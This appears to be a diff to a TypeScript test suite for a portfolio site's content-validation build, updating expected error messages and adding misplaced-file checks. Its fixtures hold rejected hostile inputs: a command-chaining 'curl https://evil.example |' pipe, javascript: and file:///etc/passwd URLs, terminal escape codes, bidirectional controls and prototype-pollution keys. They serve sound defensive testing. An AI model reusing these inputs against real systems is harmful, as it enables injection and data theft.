@@ -26,27 +26,30 @@ const TRAILING = "(JSON allows no comma after the last item; remove it)";
 
 /** Every folder under broken/, with the exact lines the build prints for it. */
 const FOLDER_CASES: Record<string, string[]> = {
-  "bad-case-study-date": ["content/projects/alpha.json → caseStudy.date: expected a date as YYYY-MM-DD"],
-  "bad-email": ["content/profile.json → contact.email: expected an email address"],
+  "bad-case-study-date": ["content/projects/alpha.json → caseStudy.date: '2023-02-29': this date does not exist: February 2023 has 28 days"],
+  "bad-email": ["content/profile.json → contact.email: 'ada-at-example.com': expected an email address"],
   "bad-enums": [
     "content/projects/beta.json → lane: 'designer' is not one of builder, client, localization, ai-tools",
     "content/projects/beta.json → tier: 'gold' is not one of featured, supporting, archive",
   ],
-  "bad-slug": ["content/projects/Beta_Two.json → slug: expected lowercase letters, digits and single hyphens, e.g. my-project"],
-  "base-url-with-credentials": ["content/site.json → baseUrl: must not contain a user name or password"],
-  "base-url-with-path": [`content/site.json → baseUrl: ${ORIGIN}`],
-  "case-study-date-format": ["content/projects/alpha.json → caseStudy.date: expected a date as YYYY-MM-DD"],
-  "case-study-date-number": ["content/projects/alpha.json → caseStudy.date: expected a date as YYYY-MM-DD"],
-  "cli-shell-syntax": [
-    "content/profile.json → developerResources.cli: expected a plain command such as npx @me/cli: letters, digits, spaces and @ . _ / : = + , ~ -, no quotes or shell syntax",
+  "bad-slug": [
+    "content/projects/Beta_Two.json → slug: 'Beta_Two': expected lowercase letters, digits and single hyphens, such as 'beta-two'",
+    "content/projects/Beta_Two.json: file name 'Beta_Two' is not a slug, which is lowercase letters, digits and single hyphens (rename it to beta-two.json and set slug to 'beta-two')",
   ],
-  "comments-in-json": ["content/skills.json:1:1: invalid JSON: Unexpected token '/'"],
+  "base-url-with-credentials": ["content/site.json → baseUrl: 'https://ada:secret@fixture.example.com': must not contain a user name or password"],
+  "base-url-with-path": [`content/site.json → baseUrl: 'https://fixture.example.com/portfolio/': ${ORIGIN}`],
+  "case-study-date-format": ["content/projects/alpha.json → caseStudy.date: '29/02/2024': expected a date as YYYY-MM-DD"],
+  "case-study-date-number": ["content/projects/alpha.json → caseStudy.date: expected a date as YYYY-MM-DD, got number 20240229"],
+  "cli-shell-syntax": [
+    "content/profile.json → developerResources.cli: 'npx ada-cli; curl https://evil.example |…': expected a plain command such as npx @me/cli: letters, digits, spaces and @ . _ / : = + , ~ -, no quotes or shell syntax",
+  ],
+  "comments-in-json": ["content/skills.json:1:1: invalid JSON: JSON has no comments, and '//' starts one (remove the comment)"],
   "control-characters": [
     "content/profile.json → name: contains the control character U+001B, which terminals and files would act on (remove it)",
     "content/profile.json → roles[0]: contains the control character U+0000, which terminals and files would act on (remove it)",
     "content/profile.json → location.city: contains the control character U+009B, which terminals and files would act on (remove it)",
     "content/profile.json → keyProjects[0].description: contains the control character U+000D, which terminals and files would act on (remove it)",
-    "content/profile.json → title: must be one line, with no tab or line break",
+    "content/profile.json → title: 'Test\\tPerson': must be one line, with no tab or line break",
     "content/projects/beta.json → title: contains the bidirectional control U+202E, which makes text read in another order than it is stored (remove it)",
     "content/projects/beta.json → summary: contains the bidirectional control U+2066, which makes text read in another order than it is stored (remove it)",
     "content/projects/beta.json → [\"\\u001b[2J\"]: contains the control character U+001B, which terminals and files would act on (remove it)",
@@ -62,55 +65,58 @@ const FOLDER_CASES: Record<string, string[]> = {
     "content/projects/beta.json → slug: 'alpha' does not match the file name (rename the file to alpha.json or set slug to 'beta')",
     "content/projects/beta.json → slug: 'alpha' is already used by content/projects/alpha.json",
   ],
-  "empty-file": ["content/projects/beta.json:1:1: invalid JSON: Unexpected end of JSON input"],
+  "empty-file": ["content/projects/beta.json: file is empty (write its JSON object in it, or delete the file)"],
   "empty-strings": ["content/skills.json → skills[0].title: must not be empty", "content/skills.json → skills[0].items[0]: must not be empty"],
   "enum-case": [
     "content/projects/beta.json → lane: 'Client' is not one of builder, client, localization, ai-tools",
     "content/projects/beta.json → tier: 'ARCHIVE' is not one of featured, supporting, archive",
   ],
   "file-name-not-slug": ["content/projects/beta.json → slug: 'gamma' does not match the file name (rename the file to gamma.json or set slug to 'beta')"],
-  "infinite-order": ["content/projects/beta.json → order: expected a number"],
+  "infinite-order": ["content/projects/beta.json → order: expected a number, got Infinity, a number too large for JSON"],
   "invalid-json": ["content/projects/beta.json:4:3: invalid JSON: Expected ',' or '}' after property value"],
   "invalid-json-literal": ["content/skills.json:1:33: invalid JSON: Unexpected token ','"],
   "lone-surrogate": [`content/projects/beta.json → title: ${LONE}`, `content/projects/beta.json → proofPoints[1]: ${LONE}`],
   "key-projects-wrong-shape": ["content/profile.json → roles: expected array, got string \"Developer\"", "content/profile.json → keyProjects: expected array, got an object"],
   "missing-required": ["content/profile.json → title: required field is missing", "content/profile.json → location.timezone: required field is missing"],
   "non-http-url": [
-    "content/projects/beta.json → links.live: expected an absolute http(s) URL",
-    "content/projects/beta.json → links.github: expected an absolute http(s) URL",
-    "content/projects/beta.json → links.caseStudy: expected an absolute http(s) URL",
+    "content/projects/beta.json → links.live: 'ftp://beta.example.com': expected an absolute http(s) URL",
+    "content/projects/beta.json → links.github: 'github.com/beta': expected an absolute http(s) URL",
+    "content/projects/beta.json → links.caseStudy: 'javascript:alert(1)': expected an absolute http(s) URL",
   ],
   "non-http-url-profile": [
-    "content/profile.json → contact.website: expected an absolute http(s) URL",
-    "content/profile.json → contact.linkedin: expected an absolute http(s) URL",
-    "content/profile.json → keyProjects[0].url: expected an absolute http(s) URL",
+    "content/profile.json → contact.website: '//ada.example.com': expected an absolute http(s) URL",
+    "content/profile.json → contact.linkedin: 'mailto:ada@example.com': expected an absolute http(s) URL",
+    "content/profile.json → keyProjects[0].url: 'file:///etc/passwd': expected an absolute http(s) URL",
   ],
   "null-root": ["content/projects/beta.json: expected object, got null"],
   "overlong-text": [
-    `content/profile.json → contact.email: must be at most 254 characters`,
-    `content/projects/beta.json → title: must be at most 200 characters`,
-    `content/projects/beta.json → summary: must be at most 5000 characters`,
-    `content/projects/beta.json → links.live: must be at most 2048 characters`,
+    `content/profile.json → contact.email: '${"a".repeat(40)}…': must be at most 254 characters`,
+    `content/projects/beta.json → title: '${"T".repeat(40)}…': must be at most 200 characters`,
+    `content/projects/beta.json → summary: '${"S".repeat(40)}…': must be at most 5000 characters`,
+    `content/projects/beta.json → links.live: 'https://beta.example.com/${"a".repeat(15)}…': must be at most 2048 characters`,
   ],
   "prototype-keys": [
     `content/projects/beta.json → links.prototype: unknown field (${LINK_KEYS})`,
     "content/projects/beta.json → __proto__: unknown field",
     "content/projects/beta.json → constructor: unknown field",
   ],
-  "service-not-slug": ["content/site.json → service: expected lowercase letters, digits and single hyphens, e.g. my-portfolio-api"],
+  "service-not-slug": ["content/site.json → service: 'Fixture API!': expected lowercase letters, digits and single hyphens, such as 'fixture-api'"],
   "several-files": [
     "content/site.json → service: required field is missing",
     "content/projects/alpha.json → summary: required field is missing",
-    "content/projects/beta.json → links.live: expected an absolute http(s) URL",
+    "content/projects/beta.json → links.live: 'nope': expected an absolute http(s) URL",
   ],
-  "slug-too-long": [`content/projects/${LONG_SLUG}.json → slug: must be at most 64 characters`],
+  "slug-too-long": [`content/projects/${LONG_SLUG}.json → slug: '${"a".repeat(40)}…': must be at most 64 characters`],
   "trailing-comma": [`content/site.json:1:69: invalid JSON: trailing comma before '}' ${TRAILING}`],
   "trailing-comma-array": [`content/skills.json:3:37: invalid JSON: trailing comma before ']' ${TRAILING}`],
   "translation-not-listed": [
     `content/projects/beta.json → titleTr: is a 'tr' translation, but content/site.json does not list 'tr' in translations (add "tr" to translations or remove titleTr)`,
     `content/projects/beta.json → summaryTr: is a 'tr' translation, but content/site.json does not list 'tr' in translations (add "tr" to translations or remove summaryTr)`,
   ],
-  "translations-bad-codes": ["content/site.json → translations[1]: expected a lowercase language code such as tr", "content/site.json → translations: lists a language twice"],
+  "translations-bad-codes": [
+    "content/site.json → translations[1]: 'TR': write it as 'tr' (BCP 47's case: language lowercase, script capitalized, region uppercase)",
+    "content/site.json → translations[2]: 'tr' is listed twice; remove one",
+  ],
   "truncated-file": ["content/projects/beta.json:1:99: invalid JSON: Unterminated string"],
   "unknown-key": [
     `content/projects/beta.json → links.liev: unknown field (did you mean 'live'? ${LINK_KEYS})`,
@@ -122,13 +128,13 @@ const FOLDER_CASES: Record<string, string[]> = {
     "content/projects/alpha.json → caseStudy.auther: unknown field (allowed: title, category, date, excerpt, url)",
   ],
   "unknown-link-key": [`content/projects/beta.json → links.website: unknown field (${LINK_KEYS})`],
-  "url-credentials": ["content/profile.json → contact.website: must not contain a user name or password"],
-  "url-markdown-tail": ["content/projects/beta.json → links.live: contains a space or a character URLs do not allow; percent-encode it or remove it"],
+  "url-credentials": ["content/profile.json → contact.website: 'https://ada:secret@ada.example.com/': must not contain a user name or password"],
+  "url-markdown-tail": ["content/projects/beta.json → links.live: 'https://example.com/ [Click me](javascri…': contains a space or a character URLs do not allow; percent-encode it or remove it"],
   "url-not-as-written": [
-    "content/projects/beta.json → links.live: does not stay as written: a URL parser reads it as 'https://beta.example.com/admin'",
-    "content/projects/beta.json → links.github: does not stay as written: a URL parser reads it as 'https://github.com/ada/beta?x=%271%27'",
+    "content/projects/beta.json → links.live: 'https://beta.example.com/a/../admin': does not stay as written: a URL parser reads it as 'https://beta.example.com/admin'",
+    "content/projects/beta.json → links.github: 'https://github.com/ada/beta?x=\'1\'': does not stay as written: a URL parser reads it as 'https://github.com/ada/beta?x=%271%27'",
   ],
-  "uppercase-file-name": ["content/projects/Gamma.json → slug: 'gamma' does not match the file name (rename the file to gamma.json or set slug to 'Gamma')"],
+  "uppercase-file-name": ["content/projects/Gamma.json: file name 'Gamma' is not a slug, which is lowercase letters, digits and single hyphens (rename it to gamma.json)"],
   "wrong-nested-types": [
     "content/projects/beta.json → badge: expected string, got number 5",
     "content/projects/beta.json → proofPoints: expected array, got string \"one, two\"",
@@ -138,7 +144,7 @@ const FOLDER_CASES: Record<string, string[]> = {
   "wrong-root-type": ["content/site.json: expected object, got an array"],
   "wrong-types": [
     "content/projects/beta.json → title: expected string, got number 42",
-    "content/projects/beta.json → order: expected a number",
+    "content/projects/beta.json → order: expected a number, got string \"first\"",
     "content/projects/beta.json → summary: expected string, got an array",
   ],
 };
@@ -228,6 +234,7 @@ const GENERATED_CASES: GeneratedCase[] = [
       "content/projects/gamma\\u001b[2J.json → role: contains the control character U+001B, which terminals and files would act on (remove it)",
       "content/projects/gamma\\u001b[2J.json → status: contains the control character U+009B, which terminals and files would act on (remove it)",
       "content/projects/gamma\\u001b[2J.json → lane: '\\u001b[31mclient' is not one of builder, client, localization, ai-tools",
+      "content/projects/gamma\\u001b[2J.json: file name 'gamma\\u001b[2J' is not a slug, which is lowercase letters, digits and single hyphens (rename it to gamma-2j.json and set slug to 'gamma-2j')",
     ],
   },
   {
@@ -380,25 +387,80 @@ describe("build settings from the environment", () => {
   });
 });
 
-describe("files the build skips", () => {
-  it("warns about each by name and still builds", async () => {
+const READ_LIST = "the build reads site.json, profile.json, skills.json and projects/*.json only";
+
+describe("files where the build does not read them", () => {
+  // Each looks like content, so the site would deploy without it: each stops the build.
+  it.each<[string, (content: string) => Promise<void>, string]>([
+    [
+      "a project file at the top of content/",
+      (content) => writeFile(path.join(content, "gamma.json"), project("gamma")),
+      `content/gamma.json: this file is not read by the build, so it would not be published (${READ_LIST}; if it is a project, move it to projects/gamma.json)`,
+    ],
+    [
+      "a top-level file one slip from a content file",
+      (content) => writeFile(path.join(content, "Skill.json"), "{}"),
+      "content/Skill.json: this file is not read by the build, so it would not be published (rename it to skills.json)",
+    ],
+    [
+      "a project in content/project/",
+      async (content) => {
+        await mkdir(path.join(content, "project"));
+        await writeFile(path.join(content, "project", "gamma.json"), project("gamma"));
+      },
+      "content/project/: this folder is not read by the build, so nothing in it would be published (rename it to projects/)",
+    ],
+    [
+      "another folder such as case-studies/",
+      async (content) => {
+        await mkdir(path.join(content, "case-studies"));
+        await writeFile(path.join(content, "case-studies", "alpha.json"), "{}");
+      },
+      `content/case-studies/: this folder is not read by the build, so nothing in it would be published (${READ_LIST}; move its files there, or the folder out of content/)`,
+    ],
+    [
+      "a project in a folder nested under projects/",
+      async (content) => {
+        await mkdir(path.join(content, "projects", "drafts"));
+        await writeFile(path.join(content, "projects", "drafts", "gamma.json"), project("gamma"));
+      },
+      "content/projects/drafts/: folders inside a content folder are not read, so nothing in it would be published (move its files up into projects/, one <slug>.json each, or the folder out of content/)",
+    ],
+    [
+      "a project file named .JSON",
+      (content) => writeFile(path.join(content, "projects", "Gamma.JSON"), project("gamma")),
+      "content/projects/Gamma.JSON: the extension '.JSON' is not read, only lowercase .json (rename it to gamma.json)",
+    ],
+  ])("stops the build for %s, naming the file and the fix", async (_name, misplace, expected) => {
     const work = await makeWorkDir();
     try {
       const content = await applyCase(work, undefined);
-      await mkdir(path.join(content, "case-studies"));
-      await writeFile(path.join(content, "case-studies", "alpha.json"), "{}");
-      await writeFile(path.join(content, "projects", "Gamma.JSON"), "{}");
+      await misplace(content);
+      const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
+      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([expected]);
+      expect(result.warnings).toEqual([]);
+    } finally {
+      await rm(work, { recursive: true, force: true });
+    }
+  });
+
+  it("only warns about what cannot be content or is parked with a dot, and says nothing of OS litter", async () => {
+    const work = await makeWorkDir();
+    try {
+      const content = await applyCase(work, undefined);
+      await writeFile(path.join(content, "README.md"), "notes");
+      await mkdir(path.join(content, ".drafts"));
+      await writeFile(path.join(content, ".drafts", "gamma.json"), project("gamma"));
       await writeFile(path.join(content, "projects", ".hidden.json"), "{}");
       await writeFile(path.join(content, "projects", "notes.md"), "draft");
-      await mkdir(path.join(content, "projects", "drafts"));
-      await writeFile(path.join(content, "projects", ".DS_Store"), "");
+      for (const litter of [".DS_Store", "Thumbs.db", "desktop.ini", ".gitkeep"]) await writeFile(path.join(content, "projects", litter), "");
+      await writeFile(path.join(content, ".DS_Store"), "");
       const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
-      expect(result.ok).toBe(true);
+      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([]);
       expect(result.warnings.map(formatProblem)).toEqual([
-        "content/case-studies/: not read by the build (the build reads site.json, profile.json, skills.json and projects/*.json only)",
+        "content/.drafts/: not read by the build (names starting with a dot are skipped)",
+        "content/README.md: not read by the build (the build reads site.json, profile.json, skills.json and projects/*.json only)",
         "content/projects/.hidden.json: not read by the build (names starting with a dot are skipped)",
-        "content/projects/Gamma.JSON: not read by the build (rename it to end in lowercase .json)",
-        "content/projects/drafts/: not read by the build (project files go directly in projects/, one <slug>.json each)",
         "content/projects/notes.md: not read by the build (only files ending in .json are read)",
       ]);
     } finally {
@@ -406,6 +468,7 @@ describe("files the build skips", () => {
     }
   });
 });
+
 
 describe("content that looks odd but builds", () => {
   it.each<[string, (content: string) => Promise<void>]>([
@@ -421,9 +484,10 @@ describe("content that looks odd but builds", () => {
     [
       "a project file that is a symbolic link to a file inside content/",
       async (content) => {
-        await mkdir(path.join(content, "drafts"));
-        await rename(path.join(content, "projects", "beta.json"), path.join(content, "drafts", "beta.json"));
-        await symlink(path.join(content, "drafts", "beta.json"), path.join(content, "projects", "beta.json"));
+        // A folder starting with a dot is parked on purpose: skipped with a warning, not a problem.
+        await mkdir(path.join(content, ".drafts"));
+        await rename(path.join(content, "projects", "beta.json"), path.join(content, ".drafts", "beta.json"));
+        await symlink(path.join(content, ".drafts", "beta.json"), path.join(content, "projects", "beta.json"));
       },
     ],
     [
